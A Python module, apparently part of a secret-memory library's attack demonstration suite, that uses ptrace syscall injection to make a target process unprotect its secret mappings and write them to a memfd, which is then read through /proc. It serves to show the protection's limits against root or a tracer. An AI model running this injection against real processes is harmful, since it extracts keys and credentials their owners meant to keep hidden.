"""Make the victim itself hand its secret over: this works."""

from __future__ import annotations

import contextlib
from typing import TYPE_CHECKING

from secretmem.prove import linux, maps
from secretmem.prove.attack import Attack, Cell, Layer, Promise
from secretmem.prove.injection import (
    MEMFD_CREATE,
    MPROTECT,
    PKEY_MPROTECT,
    WRITE,
    Injector,
)
from secretmem.prove.reading import seen
from secretmem.prove.tracer import Tracer


if TYPE_CHECKING:
    from collections.abc import Iterable

    from secretmem.prove.stage import Stage, VictimHandle


def run(stage: Stage, kind: str) -> Cell:
    """
    Inject memfd_create, then open the memory and write it there.

    The secret is at rest, not in use.
    """
    with stage.victim(kind) as victim:
        how = f"ptrace made process {victim.pid} open and write its pages"
        return seen(kind, victim.needle, take(victim), how)


def take(victim: VictimHandle) -> bytes:
    """Return what the victim writes when it is made to; raises OSError."""
    with Tracer(victim.pid) as tracer:
        injector = Injector(tracer)
        try:
            return _take(injector, victim)
        finally:
            injector.restore()


def _take(injector: Injector, victim: VictimHandle) -> bytes:
    """Let the victim write every target to a file, and read that."""
    fd = injector.call(MEMFD_CREATE, injector.any_string(), 0)
    for start, size in _ranges(victim):
        _open(injector, start, size)
        with contextlib.suppress(OSError):
            injector.call(WRITE, fd, start, size)
    path = f"/proc/{victim.pid}/fd/{fd}"
    with open(path, "rb") as file:  # noqa: PTH123 - /proc is not a path to compute with
        return file.read()


def _ranges(victim: VictimHandle) -> Iterable[tuple[int, int]]:
    """Return what is to be written: the address, or secretmem mappings."""
    if victim.span is not None:
        return [victim.span]
    secret = maps.secret_mappings(victim.pid)
    return [(mapping.start, mapping.size) for mapping in secret]


def _open(injector: Injector, start: int, size: int) -> None:
    """Let the victim undo the gate: the default key, and readable."""
    page = start & -linux.PAGE
    whole = start + size - page
    for call in (PKEY_MPROTECT, MPROTECT):
        try:
            injector.call(call, page, whole, linux.PROT_READ, 0)
        except OSError:
            continue
        return


def requires() -> str | None:
    """Return why nothing can be injected here."""
    if linux.MACHINE != "x86_64":
        return f"written for x86-64 registers, this is {linux.MACHINE}"
    return None


ATTACK = Attack(
    name="injected",
    title="code injected with ptrace",
    layer=Layer.LIMIT,
    explanation=(
        "Whoever may trace the process can make it run code, and that code "
        "reads the secret as the program does: here the victim is made to "
        "open the arena with mprotect and to write it to a file. "
        "PR_SET_DUMPABLE=0 (harden()) keeps the same user out, not root. A "
        "malicious dependency that calls the API is not stopped either."
    ),
    run=run,
    requires=requires,
    promise=Promise.READABLE,
)
